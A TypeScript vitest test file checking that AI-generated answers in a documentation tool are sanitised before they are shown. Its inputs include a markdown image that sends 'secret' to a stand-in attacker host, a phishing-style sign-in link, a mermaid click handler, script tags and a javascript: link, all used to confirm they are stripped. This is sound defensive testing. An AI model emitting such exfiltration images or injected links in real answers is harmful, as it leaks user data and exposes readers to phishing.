import { expect, it } from 'vitest'
import { toMarkdown } from '../../../shared/document/markdown/serialize.ts'
import { blocksFor, composeAnswer } from './answer-document.ts'
import type { Exchange } from './conversation.ts'
import { readAnswer } from './read-answer.ts'

const settings = { docsN: 10, codeN: 10, isSearchOnly: false, searchScope: 'codeAndDocs' } as const
const exchange = (key: string, prompt: string, projectIds = [7], state: Exchange['state'] = 'answered') => ({
  key,
  question: { prompt, projectIds, settings },
  state,
})
const names = new Map([
  [7, 'Harbour'],
  [8, 'Shipyard'],
])

const whole = (text: string) => readAnswer({ text, isWhole: true })

it('an incomplete answer has no links and shows external addresses as text', () => {
  const text =
    '[Sign in again](https://evil.example/a), www.evil.example or [here](/projects/7/12)\n\n```mermaid\nclick A "https://evil.example"\n```'
  const { nodes } = readAnswer({ text, isWhole: false })
  expect(toMarkdown({ type: 'doc', content: [...nodes] }).trim()).toBe(
    'Sign in again (`https://evil.example/a`), `http://www.evil.example` or here\n\n```text\nclick A "https://evil.example"\n```',
  )
})

it('an answer document loads nothing from other sites', () => {
  const { nodes } = whole(
    'Words ![x](https://evil.example/?q=secret)\n\n\n\n:::youtube {src="https://youtu.be/dQw4w9WgXcQ"} :::',
  )
  expect(JSON.stringify(nodes)).not.toMatch(/evil|"youtube"/)
})

it('a question becomes the title above all headings of its answer', () => {
  const because = whole('## Because\n\nSee [there](/projects/7/12#start).')
  const composed = [
    composeAnswer(exchange('a', 'Why?'), because, names),
    composeAnswer(exchange('b', 'How?', [7, 8], 'stopped'), whole('So'), names),
    composeAnswer(exchange('c', 'When?', [7, 9], 'loading'), undefined, names),
  ]
  expect(composed.map((doc) => toMarkdown(doc).trim())).toEqual([
    '## Why?\n\n*In Harbour*\n\n### Because\n\nSee [there](page:12#start).',
    '## How?\n\n*In Harbour, Shipyard*\n\nSo\n\nStopped.',
    '## When?\n\n*In 2 projects*',
  ])
  expect([...because.addresses]).toEqual([[12, '/projects/7/12']])
})

it('answer blocks link to pages of the same project by id and to other pages by address', () => {
  const read = whole('See [here](/projects/7/12#start) and\n\n- [there](/projects/8/30#end)')
  const blocks = blocksFor(exchange('a', 'Why?', [7, 8]), read, 7, 'https://docs.example.org')
  expect(toMarkdown({ type: 'doc', content: blocks }).trim()).toBe(
    '## Why?\n\nSee [here](page:12#start) and\n\n- [there](https://docs.example.org/projects/8/30#end)',
  )
})

it('answer blocks include images only if all readers of the page can see them', () => {
  const read = whole(`Look:\n\n![The pier](/api/blob/${'a'.repeat(64)})`)
  const types = (projectIds: number[]) =>
    blocksFor(exchange('a', 'Where?', projectIds), read, 7, 'https://docs.example.org').map(({ type }) => type)
  expect(types([7])).toEqual(['heading', 'paragraph', 'image'])
  expect(types([7, 8])).toEqual(['heading', 'paragraph', 'paragraph'])
})

it('a question or an answer contains only words and safe links', () => {
  const read = whole('<script>1</script>\n\n[x](javascript:1) [y](/login) [z](//a.org)')
  const doc = composeAnswer(exchange('a', '<script>1</script>'.repeat(9_000)), read, names)
  const links = [...JSON.stringify(doc).matchAll(/"href":"([^"]*)"/g)].map(([, href]) => href)
  expect(links).toEqual(['https://a.org'])
  expect(doc.content?.[0]?.content?.[0]?.text?.length).toBe(601)
})
